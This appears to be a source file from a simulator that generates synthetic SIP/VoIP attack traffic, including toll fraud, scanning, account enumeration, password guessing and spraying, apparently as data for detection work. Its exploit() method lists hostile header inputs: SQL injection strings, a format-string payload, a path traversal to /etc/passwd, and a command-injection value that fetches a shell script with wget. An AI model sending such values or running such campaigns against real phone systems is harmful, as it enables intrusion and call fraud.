"""The campaigns: each a function that adds its sources to a world, with knobs for what differs between the variants."""

import random
from collections.abc import Callable, Sequence
from dataclasses import replace

from unseen.stacks import ALNUM, DIGITS, PHONES, PROGRAMS, Stack, chars, made_up, sipcli, sipvicious
from unseen.talk import Client, Server, World
from unseen.wire import SYN

NAMES = [
    "Cisco-SIPGateway/IOS-12.x",
    "Asterisk PBX",
    "FPBX-2.11.0(11.8.1)",
    "Avaya one-X Deskphone",
    "Linksys/SPA942-6.1.5(a)",
    "Polycom SoundPoint IP 550",
    "eyeBeam release 1102q",
    "Zoiper r42",
    "VOIP",
    "Mitel-5212-SIP-Phone",
    "snom300/8.4.35",
    "Grandstream HT-502 V1.2A",
    "Yealink SIP-T22P 7.72.0.25",
    "Bria 3.5.1",
    "Panasonic_KX-UT123-B/01.025",
    "Htek UC926 V2.0",
    "Fanvil X4",
    "PBX",
    "Sipura/SPA2100",
    "Aastra 6731i",
    "OpenScape Desk Phone",
    "LG-Ericsson",
    "AddPac SIP",
    "Obihai/OBi202",
    "Ekiga/4.0.1",
]
Stacks = Callable[[int], Stack]


class Attackers:
    """Adds attackers to a world."""

    def __init__(self, world: World, start: float, days: float, customers: Sequence[str]) -> None:
        self.world, self.rng, self.start, self.days, self.customers = world, world.rng, start, days, customers

    def address(self, campaign: str, *, v6: bool = False, near: bool = False) -> str:
        """An address of its own, sometimes in the network of a customer."""
        while True:
            rng = self.rng
            if v6:
                text = f"2001:db8:{rng.randrange(100, 60000):x}::{rng.randrange(1, 65000):x}"
            elif near and self.customers:
                text = f"{rng.choice(self.customers)}.{rng.randrange(2, 254)}"
            else:
                first = rng.choice((45, 51, 62, 77, 89, 91, 141, 156, 163, 185, 193, 195, 212))
                text = f"{first}.{rng.randrange(1, 255)}.{rng.randrange(1, 255)}.{rng.randrange(2, 254)}"
            if text not in self.world.attackers:
                self.world.attackers[text] = campaign
                return text

    def names(self, mode: str) -> Callable[[], str | None]:
        """What the sources call themselves: 'each' its own, 'none' at all, 'random' text, or one name."""
        if mode == "each":
            return lambda: self.rng.choice(NAMES)
        if mode == "none":
            return lambda: ""
        if mode == "random":
            return lambda: chars(self.rng, ALNUM, self.rng.randrange(4, 12))
        return lambda: mode

    def moment(self, where: float, length: float) -> float:
        """A moment of the campaign; both as parts of the whole time."""
        return self.start + self.days * 86400 * self.rng.uniform(where, where + length)

    def toll(
        self,
        campaign: str,
        many: int,
        stack: Stack,
        numbers: Sequence[str],
        prefixes: Sequence[str],
        *,
        names: str = "each",
        leak: str = "",
        each: tuple[int, int] = (1, 3),
        where: float = 0.0,
        length: float = 1.0,
        polite: bool = False,
        answered: int = 0,
        user: str = "random",
        pause: bool = False,
        transport: str = "udp",
        near: float = 0.1,
        statuses: Sequence[tuple[int, ...]] = (),
    ) -> None:
        """Look for a way out to the numbers, a few calls from each source."""
        name, rng = self.names(names), self.rng
        done = 0
        for index in range(many):
            client = Client(
                self.address(campaign, near=rng.random() < near),
                rng.choice([5060, 5070, rng.randrange(1025, 65000)]),
                stack,
                leak if leak and rng.random() < 0.85 else "",
                transport,
                name(),
                leak,
            )
            when = self.moment(where, length)
            if pause and 0.3 < (when - self.start) / (self.days * 86400) < 0.7:
                when = self.moment(where, length * 0.25)
            for _ in range(rng.randint(*each)):
                server, number = rng.choice(self.world.servers), rng.choice(list(numbers))
                who = {"random": str(rng.randrange(100, 9999)), "same": "1000"}.get(user, user)
                call = self.world.call(client, server, who, rng.choice(list(prefixes)) + number)
                if "sipcli" in stack.session:
                    call.branch = "z9hG4bK-" + call.call_id
                open_end = done < answered and not server.silent and index >= many // 3
                answers = (
                    (100, 183, 200)
                    if open_end
                    else rng.choice(list(statuses) or [(401,), (404,), (403,), (100, 503), (484,), (407,)])
                )
                if open_end:
                    done += 1
                    self.world.answered.add((campaign, number))
                if answers[-1] in (401, 407):
                    self.world.invite(when, call, challenge=True, ack=polite)
                else:
                    self.world.invite(
                        when, call, answers=answers, ack=polite or open_end, talk=rng.uniform(20, 60), voice=True
                    )
                when += rng.uniform(1, 90)

    def once(
        self,
        campaign: str,
        many: int,
        stack: Stack,
        method: str,
        *,
        names: str = "each",
        where: float = 0.0,
        length: float = 1.0,
        v6: bool = False,
        users: str = "fixed",
        near: float = 0.05,
    ) -> None:
        """Sweep the servers from ever new sources, one message each."""
        name, rng = self.names(names), self.rng
        for index in range(many):
            client = Client(
                self.address(campaign, v6=v6, near=rng.random() < near),
                rng.choice([5060, 5060, rng.randrange(1025, 65000)]),
                stack,
                "",
                "udp",
                name(),
            )
            server = self.world.servers[index % len(self.world.servers)]
            who = {"fixed": "100", "digits": chars(rng, DIGITS, 10)}.get(users, users)
            call = self.world.call(client, server, who, who)
            when = self.moment(where, length)
            if method == "REGISTER":
                self.world.register(when, call, None, 401 if server.alike else 404)
            else:
                self.world.options(when, call, rng.choice([200, 200, 404]))

    def sweep(
        self,
        campaign: str,
        many: int,
        stack: Stack,
        method: str = "OPTIONS",
        *,
        names: str = "one",
        where: float = 0.2,
        length: float = 0.1,
        transport: str = "udp",
        h323: bool = False,
        v6: bool = False,
        user: str = "",
    ) -> None:
        """Go over all servers from each source."""
        name, rng = self.names(names), self.rng
        for _ in range(many):
            client = Client(self.address(campaign, v6=v6), rng.randrange(30000, 61000), stack, "", transport, name())
            when = self.moment(where, length)
            servers = list(self.world.servers)
            rng.shuffle(servers)
            for server in servers[: rng.randint(8, len(servers))]:
                who = user or "100"
                call = self.world.call(client, server, who, who, f"sip:{server.address}" if not user else "")
                if method == "OPTIONS":
                    self.world.options(when, call)
                elif method == "REGISTER":
                    self.world.register(when, call, None, 401 if server.alike else 404)
                else:
                    self.world.invite(when, call, challenge=True, ack=False)
                if h323:
                    self.world.wire.segment(when + 0.5, (client.address, client.port), (server.address, 1720), SYN)
                when += rng.uniform(0.05, 3)

    def enumerate(
        self,
        campaign: str,
        many: int,
        stack: Stack,
        accounts: Sequence[str],
        *,
        names: str = "each",
        each: int = 25,
        where: float = 0.3,
        length: float = 0.05,
        method: str = "REGISTER",
        tags: bool = True,
        pace: float = 0.1,
        servers: int = 2,
    ) -> None:
        """Try which accounts there are; the list is shared out among the sources."""
        name, rng = self.names(names), self.rng
        targets = rng.sample(self.world.servers, servers)
        for index in range(many):
            client = Client(self.address(campaign), rng.choice([5060, 5061, 5071]), stack, "", "udp", name())
            when = self.moment(where, length)
            for account in [accounts[(index * each + step) % len(accounts)] for step in range(each)]:
                server = targets[index % servers]
                call = self.world.call(client, server, account, account)
                if tags:
                    call.tag = (account + "\x01" + chars(rng, DIGITS, 10)).encode().hex()
                if method == "REGISTER":
                    self.world.register(when, call, None, 401 if server.alike or account.endswith("0") else 404)
                elif method == "INVITE":
                    self.world.invite(when, call, challenge=True, ack=False)
                else:
                    self.world.options(when, call, 200 if account.endswith("0") else 404)
                when += pace * rng.uniform(0.5, 1.5)

    def guess(
        self,
        campaign: str,
        many: int,
        stack: Stack,
        accounts: Sequence[str],
        *,
        names: str = "each",
        each: int = 20,
        where: float = 0.4,
        length: float = 0.2,
        breach: str = "",
        tags: bool = False,
        pace: float = 1.0,
        spray: str = "",
        reuse: bool = False,
        transport: str = "udp",
        toll: tuple[str, Sequence[str]] | None = None,
        near: float = 0.1,
    ) -> None:
        """Guess passwords: many for each account, or one over all accounts (spray); one may be right, then call."""
        name, rng = self.names(names), self.rng
        server = rng.choice([s for s in self.world.servers if not s.silent])
        lucky = next((i for i in range(many // 2, many) if breach and accounts[i % len(accounts)] == breach), -1)
        for index in range(many):
            client = Client(
                self.address(campaign, near=rng.random() < near),
                rng.randrange(1025, 65000),
                stack,
                "",
                transport,
                name(),
            )
            when = self.moment(where, length)
            call = None
            for step in range(each):
                account = accounts[(index * each + step) % len(accounts)] if spray else accounts[index % len(accounts)]
                right = bool(breach) and account == breach and index == lucky and step == each - 1
                right = right or (bool(breach) and bool(spray) and account == breach)
                if call is None or not reuse:
                    call = self.world.call(client, server, account, account)
                password = spray or chars(rng, DIGITS + "abcdef", rng.randint(4, 8))
                if tags:
                    call.tag = (account + ":" + password + "\x01" + chars(rng, DIGITS, 10)).encode().hex()
                call.cseq = call.cseq + 1 if reuse and step else call.cseq
                self.world.register(
                    when, call, password, 200 if right else rng.choice([401, 403]) if not server.alike else 401
                )
                call.nonce = call.nonce if reuse and not spray else ""
                if right:
                    self.world.breaches.add((campaign, account))
                    if toll:
                        self.after_breach(campaign, client, server, account, password, toll, when + 20)
                    if not spray:
                        break
                when += pace * rng.uniform(0.5, 1.5)

    def after_breach(
        self,
        campaign: str,
        client: Client,
        server: Server,
        account: str,
        password: str,
        toll: tuple[str, Sequence[str]],
        when: float,
    ) -> None:
        """Call with the password that was found, until a prefix leads out."""
        number, prefixes = toll
        for step, prefix in enumerate(prefixes):
            last = step == len(prefixes) - 1
            call = self.world.call(client, server, account, prefix + number)
            self.world.invite(
                when, call, password=password, answers=(100, 183, 200) if last else (100, 404), talk=45, voice=True
            )
            when += 9
        self.world.answered.add((campaign, number))

    def ghost(
        self,
        campaign: str,
        many: int,
        stack: Stack,
        *,
        names: str = "one",
        rooms: Sequence[str] = ("100", "1000", "101"),
        each: int = 12,
        where: float = 0.5,
        length: float = 0.1,
        hang_up: bool = True,
        night: bool = True,
    ) -> None:
        """Ring rooms at night with nobody there."""
        name, rng = self.names(names), self.rng
        for _ in range(many):
            client = Client(self.address(campaign), rng.randrange(5060, 5100), stack, "", "udp", name())
            when = self.moment(where, length)
            when = when - when % 86400 + rng.uniform(0.02, 0.2) * 86400 if night else when
            for _ in range(each):
                server = rng.choice(self.world.servers)
                room = rng.choice(list(rooms))
                call = self.world.call(client, server, rng.choice(["100", "1000", "admin"]), room)
                self.world.invite(
                    when,
                    call,
                    answers=(100, 180, 487) if hang_up else (100, 180, 480),
                    ack=False,
                    cancel=hang_up,
                    ring=rng.uniform(3, 25),
                )
                when += rng.uniform(2, 120)

    def exploit(
        self,
        campaign: str,
        many: int,
        stack: Stack,
        *,
        names: str = "each",
        each: int = 3,
        where: float = 0.6,
        length: float = 0.3,
    ) -> None:
        """Try what breaks the server: SQL in headers, oversized fields, shell text."""
        name, rng = self.names(names), self.rng
        for _ in range(many):
            client = Client(self.address(campaign), rng.randrange(1025, 65000), stack, "", "udp", name())
            when = self.moment(where, length)
            for _ in range(each):
                server = rng.choice(self.world.servers)
                user = rng.choice(
                    [
                        "100' or '1'='1",
                        "x';select pg_sleep(5)--",
                        "A" * 3000,
                        "$(wget http://203.0.113.9/x.sh)",
                        "%s%s%s%n%n",
                        "../../../etc/passwd",
                    ]
                )
                call = self.world.call(client, server, user, user, f"sip:{server.address}")
                self.world.options(when, call, 404) if rng.random() < 0.5 else self.world.register(
                    when, call, None, 404
                )
                when += rng.uniform(1, 30)


def script(rng: random.Random, agent: str = "") -> Stack:
    """A script of somebody's own."""
    return made_up(rng, agent)


def sality() -> Stack:
    """The Sality module's REGISTER (with a branch drawn once, not the published one)."""
    return PROGRAMS["sality"]


def stolen(rng: random.Random) -> Stack:
    """A phone's own library, driven by a script."""
    return rng.choice(PHONES[:5])


def plain(session: str, order: str, branch: str, tag: str, call_id: str) -> Stack:
    """A script in Go or Python, described by hand."""
    shapes = {"hex": "{hex16}", "dec": "{digit9}", "aln": "{alnum12}"}
    return Stack("", order, "z9hG4bK" + shapes[branch], shapes[tag], shapes[call_id], session=session)


__all__ = ["Attackers", "plain", "replace", "sality", "script", "sipcli", "sipvicious", "stolen"]
